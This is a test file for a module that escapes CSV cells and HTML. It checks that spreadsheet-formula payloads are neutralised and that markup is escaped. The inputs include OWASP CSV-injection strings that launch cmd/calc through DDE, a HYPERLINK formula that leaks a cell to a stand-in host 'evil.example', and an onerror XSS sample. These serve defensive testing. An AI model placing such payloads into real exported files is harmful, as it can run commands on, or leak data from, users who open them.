import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, escapeHtml, looksLikeFormula, neutralizeFormula, quoteCsvField } from './escape.ts';

// OWASP "CSV Injection" payloads (owasp.org/www-community/attacks/CSV_Injection) and variants.
const PAYLOADS = [
  "-1+cmd|' /C calc'!A0",
  "=cmd|' /C calc'!A0",
  '+1+cmd|" /C calc"!A0',
  '@SUM(1+9)*cmd|" /C calc"!A0',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "-2+3+cmd|' /C notepad'!'A1'",
  '=1+1',
  ' =1+1',
  '  @SUM(A1:A9)',
  '\t=cmd',
  '\tplain after a tab',
  '\r=cmd',
  '\rplain after a carriage return',
  '\n=1+1',
  '\u00a0=1+1',
  '\uff1d1+1',
  '-',
  '+',
  '-2-3',
  ' -1',
];

describe('looksLikeFormula / neutralizeFormula', () => {
  it.each(PAYLOADS)('neutralises %j', (p) => {
    expect(looksLikeFormula(p)).toBe(true);
    expect(neutralizeFormula(p)).toBe(`'${p}`);
  });

  it('leaves ordinary text and plain decimal numbers alone', () => {
    for (const s of ['plain', 'Sales', '', 'a=b', 'x-1', 'john@example.com', '1+1', "'=already"]) expect(neutralizeFormula(s)).toBe(s);
    // a whole plain number cannot call anything; a spreadsheet reads it as that number (documented choice)
    for (const s of ['-12.5', '+3', '-0.5', '-.5', '-1e-5', '+2E10', '-7.']) expect(neutralizeFormula(s)).toBe(s);
  });
});

describe('quoteCsvField', () => {
  it('quotes on the delimiter, quotes, line breaks and edge spaces only', () => {
    expect(quoteCsvField('plain')).toBe('plain');
    expect(quoteCsvField('a,b')).toBe('"a,b"');
    expect(quoteCsvField('say "hi"')).toBe('"say ""hi"""');
    expect(quoteCsvField('two\nlines')).toBe('"two\nlines"');
    expect(quoteCsvField('cr\rhere')).toBe('"cr\rhere"');
    expect(quoteCsvField(' padded')).toBe('" padded"');
    expect(quoteCsvField('padded ')).toBe('"padded "');
    expect(quoteCsvField('a;b')).toBe('a;b');
    expect(quoteCsvField('a;b', ';')).toBe('"a;b"');
  });
});

describe('csvCell', () => {
  it('neutralises then quotes the OWASP payloads', () => {
    expect(csvCell("-1+cmd|' /C calc'!A0")).toBe("'-1+cmd|' /C calc'!A0");
    expect(csvCell('=HYPERLINK("http://x","y")')).toBe(`"'=HYPERLINK(""http://x"",""y"")"`);
    expect(csvCell(' =1+1')).toBe("' =1+1");
    expect(csvCell('\t=cmd')).toBe("'\t=cmd");
    expect(csvCell('\r=cmd')).toBe(`"'\r=cmd"`);
    expect(csvCell('=1,2')).toBe(`"'=1,2"`);
  });

  it('writes typed values as such: numbers never prefixed, non-finite empty', () => {
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(1e21)).toBe('1e+21');
    expect(csvCell(NaN)).toBe('');
    expect(csvCell(-Infinity)).toBe('');
    expect(csvCell(12n)).toBe('12');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(new Date(Date.UTC(2026, 11, 7)))).toBe('2026-12-07T00:00:00.000Z');
    expect(csvCell({ a: '=1', b: [1, 2] })).toBe('"{""a"":""=1"",""b"":[1,2]}"');
  });

  it('can leave formulas alone and use another delimiter', () => {
    expect(csvCell('=1+1', { escapeFormulas: false })).toBe('=1+1');
    expect(csvCell('a;b', { delimiter: ';' })).toBe('"a;b"');
    expect(csvLine(['=x', 1, 'a;b', null], { delimiter: ';' })).toBe(`'=x;1;"a;b";`);
  });
});

describe('escapeHtml', () => {
  it('escapes every character that can break out of text or a quoted attribute', () => {
    expect(escapeHtml(`<img src=x onerror="alert('1')">&\``)).toBe('&lt;img src=x onerror=&quot;alert(&#39;1&#39;)&quot;&gt;&amp;&#96;');
    expect(escapeHtml('&amp;')).toBe('&amp;amp;');
    expect(escapeHtml('Zoë – café')).toBe('Zoë – café');
    expect(escapeHtml(null)).toBe('');
    expect(escapeHtml(undefined)).toBe('');
    expect(escapeHtml(0.5)).toBe('0.5');
  });
});
